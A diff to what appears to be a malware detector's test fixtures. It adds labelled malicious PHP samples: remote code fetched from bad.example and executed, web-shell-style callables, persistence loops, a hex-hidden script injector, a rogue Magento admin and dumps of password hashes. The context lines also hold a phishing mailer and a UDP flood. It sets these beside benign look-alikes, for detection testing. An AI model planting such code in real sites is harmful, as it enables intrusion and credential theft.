@@ -83,6 +83,19 @@ export const MALICIOUS_SITES: Named = {
   'mail: by a kit, in the place of the headers': `<?php $m .= "Id : " . ${POST}['ud'] . "\n"; $m .= "Pd : " . ${POST}['pd'] . "\n"; $m .= 'IP: ' . gethostbyaddr(getenv('REMOTE_ADDR')) . $_SERVER['HTTP_USER_AGENT']; include 'email.php'; mail("$to", "$send", "$subject", $m); header('Location: next.php');`,
   'flood: packets to whom the caller names': `<?php while (1) { $f = fsockopen('udp://' . ${GET}['host'], rand(1, 65000)); fwrite($f, str_repeat('X', 65000)); }`,
   'page: links of another host behind the contents': `<?php add_filter('the_content', function ($c) { if (is_user_logged_in()) return $c; return $c . wp_remote_retrieve_body(wp_remote_get('http://links.bad.example/?d=' . $_SERVER['HTTP_HOST'])); });`,
+
+  'fetched: a field of JSON is run': `<?php $j = json_decode(file_get_contents('http://bad.example/c.json')); ${RUN}($j->code);`,
+  'fetched: a field of XML is run': `<?php $x = simplexml_load_file('http://bad.example/c.xml'); ${RUN}((string) $x->code);`,
+  'called: a field of what was sent': `<?php $j = json_decode(file_get_contents('php://input')); ($j->f)($j->a);`,
+  'called: a constant by its name': `<?php define('X', '${COMMAND.slice(0, 3)}' . '${COMMAND.slice(3)}'); constant('X')(${GET}['c']);`,
+  'called: a closure of a function': `<?php $f = Closure::fromCallable('${COMMAND.slice(0, 3)}' . '${COMMAND.slice(3)}'); $f(${GET}['c']);`,
+  'stored: in the memory of the server': `<?php if (isset(${POST}['c'])) apcu_store('c', ${POST}['c']); ${RUN}(apcu_fetch('c'));`,
+  'files: written again as soon as they are changed': `<?php ignore_user_abort(true); set_time_limit(0); while (1) { if (!file_exists('about.php')) { copy('/tmp/.c', 'about.php'); } sleep(1); }`,
+  'page: a script that loads one, in figures': `<?php add_action('wp_head', function () { echo "<script>" . hex2bin('${Buffer.from("var s=document.createElement('script');s.src='https://cdn.bad.example/t.js';document.head.appendChild(s);").toString('hex')}') . "</script>"; });`,
+  'redirect: by WordPress, where another host says': `<?php add_action('wp', function () { $u = wp_remote_retrieve_body(wp_remote_get('https://api.bad.example/r?ip=' . $_SERVER['REMOTE_ADDR'])); if (filter_var($u, FILTER_VALIDATE_URL)) { wp_redirect($u); exit; } });`,
+  'shop: an administrator': `<?php require 'app/Mage.php'; Mage::app('admin'); $u = Mage::getModel('admin/user')->setData(array('username' => 'sup', 'email' => 'a@bad.example', 'password' => 'pw1', 'is_active' => 1))->save(); $u->setRoleIds(array(1))->setRoleUserId($u->getUserId())->saveRelations();`,
+  'shop: passwords of who administers it': `<?php $r = mysql_query("select username,password from " . $p . "admin_user where is_active=1"); while ($w = mysql_fetch_row($r)) echo implode(':', $w);`,
+  'accounts: their hashes, in a line': `<?php require 'wp-load.php'; foreach ($wpdb->get_results("SELECT * FROM {$wpdb->users}") as $u) echo "$u->user_login|$u->user_pass";`,
 };
 
 /** What real programs do in the same words. */
@@ -134,6 +147,14 @@ export const CLEAN_SITES: Named = {
   'list: names of search engines': `<?php defined('BASEPATH') or exit; $robots = array('googlebot' => 'Googlebot', 'bingbot' => 'Bing', 'slurp' => 'Yahoo', 'baiduspider' => 'Baidu');`,
   'account: an administrator of a test': `<?php class T extends WP_UnitTestCase { function test_a() { $id = wp_insert_user(array('user_login' => 'a', 'user_pass' => wp_generate_password(), 'role' => 'administrator')); wp_set_current_user($id); ${GET} = array('id' => 1); $this->check(); } }`,
   'include: parts named by a file before': `<?php include("{$root['path']}module/{$module}/{$mod}.php");`,
+
+  'fetched: a field of JSON is shown': `<?php $j = json_decode(file_get_contents('https://api.example/v1')); echo '<p>' . $j->title . '</p>'; printf('%s', htmlspecialchars($j->name)); ${RUN}('return 1;');`,
+  'fetched: titles of a feed': `<?php $x = simplexml_load_file('https://blog.example/feed'); foreach ($x->channel->item as $i) echo '<li>' . $i->title . '</li>';`,
+  'files: a job that waits for others': `<?php ignore_user_abort(true); set_time_limit(0); while (true) { $job = $queue->pop(); if ($job) file_put_contents('jobs.log', $job->run(), FILE_APPEND); sleep(1); }`,
+  'page: a script of a setting': `<?php add_action('wp_head', function () { echo get_option('my_header_code'); });`,
+  'redirect: by WordPress, to who is paid': `<?php $r = json_decode(wp_remote_retrieve_body(wp_remote_post('https://api.bank.example/sessions', array('body' => $order)))); wp_redirect($r->url); exit;`,
+  'shop: an account of a customer': `<?php $c = Mage::getModel('customer/customer')->setData(array('email' => $email, 'password' => $random))->save(); $c->saveRelations();`,
+  'shop: a password is checked': `<?php function load($name) { $q = $this->db->prepare('select password from admin_user where username = ?'); $q->execute(array($name)); return $q->fetchColumn(); }`,
 
   'mail: a password to who asks for it': `<?php mail(${POST}['email'], 'Your password', 'You can set a new password on our page.');`,
   'mail: a new password to who asks for it': `<?php mail(${POST}['email'], 'Your password', 'Your new password is ' . substr(md5(rand()), 0, 8)); echo 'Sent';`,
